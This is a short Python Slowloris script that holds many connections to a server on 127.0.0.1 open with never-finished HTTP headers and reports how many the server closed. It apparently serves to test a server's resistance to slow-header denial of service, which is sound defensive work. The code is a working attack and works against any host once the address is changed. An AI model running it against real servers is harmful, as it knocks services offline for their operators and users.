#!/usr/bin/env python3
"""Slowloris: N connections each sending a request head one header line per second and never
finishing it; a closed one is reopened. Runs for SECONDS. Usage: slowloris.py PORT N SECONDS"""
import socket, sys, time, selectors
port, n, secs = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
def open_one():
    s = socket.socket(); s.setblocking(False)
    try: s.connect(("127.0.0.1", port))
    except BlockingIOError: pass
    return [s, 0]
conns = [open_one() for _ in range(n)]
end, reopened = time.time() + secs, 0
while time.time() < end:
    for c in conns:
        s, k = c
        line = b"GET /hello HTTP/1.1\r\nHost: x\r\n" if k == 0 else b"X-%d: slow\r\n" % k
        try:
            s.send(line); c[1] = k + 1
            try:
                if s.recv(4096, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b"": raise OSError
            except BlockingIOError: pass
        except (BlockingIOError, InterruptedError): pass
        except OSError:
            s.close(); c[:] = open_one(); reopened += 1
    time.sleep(1)
print(f"slowloris: {n} connections for {secs:.0f} s, {reopened} reopened after the server closed them")
